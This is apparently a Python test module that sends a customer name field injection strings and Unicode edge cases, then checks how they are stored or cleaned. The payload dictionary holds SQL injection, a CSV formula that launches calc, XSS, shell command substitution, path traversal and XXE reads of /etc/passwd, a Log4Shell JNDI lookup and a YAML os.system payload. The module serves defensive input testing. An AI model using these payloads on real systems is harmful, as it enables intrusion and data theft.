"""Texts that people and machines put into name fields, as they come out of a customer: whole, or clean.

Kinds as in the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings), chosen for what a name
passes through here: SQL, CSV, HTML, logs, templates, URLs and other programs.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.hostile.script import TENANT, Case, Gives, as_json, http

if TYPE_CHECKING:
    from collections.abc import Iterator

WHOLE: dict[str, str] = {
    "undefined": "undefined",
    "null": "null",
    "NaN": "NaN",
    "number": "1E+02",
    "hexadecimal": "0xffffffffffffffff",
    "version": "1.0/0.0",
    "SQL": "Robert'); DROP TABLE accounts;--",
    "OData": "x' or name ne '",
    "formula": "=cmd|' /C calc'!A0",
    "formula after a tab-like blank": "\u3000=1+1",
    "HTML": "<script>alert(document.domain)</script>",
    "attribute": '" onmouseover="alert(1)',
    "template": "{{ 7*7 }} ${7*7} #{7*7} {% raw %}",
    "format": "%s%s%n {0.__class__} %(name)s",
    "shell": "$(touch /tmp/x); `id` && true | false",
    "path": "../../../../etc/passwd",
    "Windows names": "CON PRN AUX NUL COM1 LPT1",
    "URL": "http://user:pw@other.example/?a=b#c",
    "Log4Shell": "${jndi:ldap://other.example/a}",
    "XML": '<!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]><foo>&x;</foo>',
    "YAML": "!!python/object/apply:os.system ['id']",
    "quotes": "\"'`“”‘’«»„",
    "backslashes": "\\\\server\\share\\",
    "right to left": "שלום مرحبا עולם",
    "direction marks": "a\u202eb\u202cc",
    "zero width inside": "Ba\u200bke\u2060ry",
    "combining": "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "decomposed": "Ame\u0301lie Zu\u0308rich",
    "Turkish": "İstanbul ıssız",
    "ligatures": "ﬁne ﬂour ﷺ",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "flags": "🇺🇸🇷🇺🇸",
    "astral": "𝕭𝖆𝖐𝖊𝖗𝖞 𠜎𠜱",
    "private use": "\ue000\U000f0000",
    "CJK": "部落格 社會科學院語學研究所",
    "Thai": "ก็็็็็็็็็็",
    "upside down": "ʎɹǝʞɐq",
    "ideographic blank inside": "a\u3000b",
    "many blanks inside": "a" + " " * 3_000 + "b",
    "a text of 4,096 characters": "ß" * 4_096,
}
CLEANED: dict[str, tuple[str, str]] = {
    "NUL": ("Bakery\0", "Bakery"),
    "line breaks": ("a\r\nb\nc\rd", "a b c d"),
    "paragraph separators": ("a\u2028b\u2029c", "a b c"),
    "controls": ("".join(map(chr, range(32))) + "x", " " * 9 + "x"),
    "bell and backspace": ("a\x07\x08b", "ab"),
    "terminal title": ("\x1b]0;owned\x07Bakery", "]0;ownedBakery"),
    "half a pair": ("\ud83d", "\ufffd"),
    "too long": ("a" * 5_000, "a" * 4_096),
}


def cases() -> Iterator[Case]:
    given = {kind: (text, text) for kind, text in WHOLE.items()} | CLEANED
    for number, (kind, (text, read)) in enumerate(given.items()):
        body = {"id": TENANT.upper(), "companyProfile": {"companyName": text}}
        answer = as_json(body) if number % 2 else http(_in_utf_8(body))
        outcome = Gives({"companyProfile.companyName": read})
        yield Case(f"text: {kind}", "customer", (answer,), outcome)


def _in_utf_8(body: object) -> bytes:
    """Not escaped; half a pair as only a careless program would write it."""
    return json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")
